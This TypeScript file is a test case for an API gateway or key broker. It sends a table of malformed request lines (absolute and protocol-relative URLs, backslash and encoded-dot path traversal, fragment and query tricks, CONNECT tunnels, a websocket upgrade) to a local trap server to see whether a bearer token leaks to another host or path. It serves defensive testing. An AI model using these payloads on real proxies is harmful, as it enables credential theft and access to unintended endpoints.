import { type HostileCase, judge } from '../case.ts';
import { openChannel, unnoticed, VALID } from '../kit/channel.ts';
import { openNaiveGateway } from '../kit/naive-gateway.ts';
import { startTrap } from '../kit/trap.ts';

const PATH = '/v1/chat/completions';

/** Request lines in which one reader sees the allowed path, and another one a different path or host. */
const FORMS: Readonly<Record<string, (evil: string) => string>> = {
  'an absolute form': (evil) => `POST http://${evil}${PATH}`,
  'two slashes': (evil) => `POST //${evil}${PATH}`,
  'a slash and a backslash': (evil) => `POST /\\${evil}${PATH}`,
  dots: () => `POST ${PATH}/../../files`,
  'encoded dots': () => `POST ${PATH}/%2e%2e/%2E%2E/files`,
  'half encoded dots': () => `POST ${PATH}/.%2e/%2e./files`,
  backslashes: () => `POST ${PATH}\\..\\..\\files`,
  'a semicolon': () => `POST ${PATH};/../../files`,
  'a fragment': () => `POST /v1/files#${PATH}`,
  'a query': () => `POST /v1/files?x=${PATH}`,
  'encoded slashes': () => `POST ${PATH}%2f..%2f..%2ffiles`,
  'an encoded letter': () => `POST ${PATH}/../%63ompletions/../../files`,
  'a tunnel': (evil) => `CONNECT ${evil}`,
  'a tunnel to the path': (evil) => `CONNECT ${evil}${PATH}`,
};

export const hostile: HostileCase = {
  number: 89,
  title: 'Forms of the target that lead the key to another host or another path',
  area: 'broker',
  lanes: ['unprivileged'],
  async attack(place, defence) {
    const trap = await startTrap(place);
    const channel = await openChannel(place, defence, { naive: openNaiveGateway });
    const body = VALID['openai-chat'];
    const request = (line: string, connection: readonly string[] = ['Connection: close']) => {
      const lines = [
        `${line} HTTP/1.1`,
        'Host: x',
        `Authorization: Bearer ${channel.token}`,
        'Content-Type: application/json',
        `Content-Length: ${body.length}`,
        ...connection,
      ];
      return `${lines.join('\r\n')}\r\n\r\n${body}`;
    };
    const got: Record<string, string | null> = {};
    const attempt = async (name: string, bytes: string) => {
      const [caught, seen] = [trap.requests.length, channel.upstream.seen.length];
      await channel.raw(bytes);
      const last = trap.requests.slice(caught).at(0);
      const strange = channel.upstream.seen
        .slice(seen)
        .find(({ url, headers }) => url !== PATH || headers.upgrade !== undefined);
      if (last !== undefined) got[name] = `another host got ${last.method} ${last.url}`;
      else got[name] = strange === undefined ? null : `the provider got ${strange.method} ${strange.url}`;
    };
    for (const [name, form] of Object.entries(FORMS)) {
      const line = form(`127.0.0.1:${trap.port}`);
      const inner = line.startsWith('CONNECT') ? 'GET /tunnel HTTP/1.1\r\nHost: x\r\n\r\n' : '';
      const outer = inner === '' ? request(line) : `${line} HTTP/1.1\r\nHost: x\r\n\r\n`;
      await attempt(name, outer + inner);
    }
    await attempt('an upgrade', request(`POST ${PATH}`, ['Connection: Upgrade', 'Upgrade: websocket']));
    if (defence === 'on') got['unnoticed'] = await unnoticed(channel);
    return judge(defence, got);
  },
};
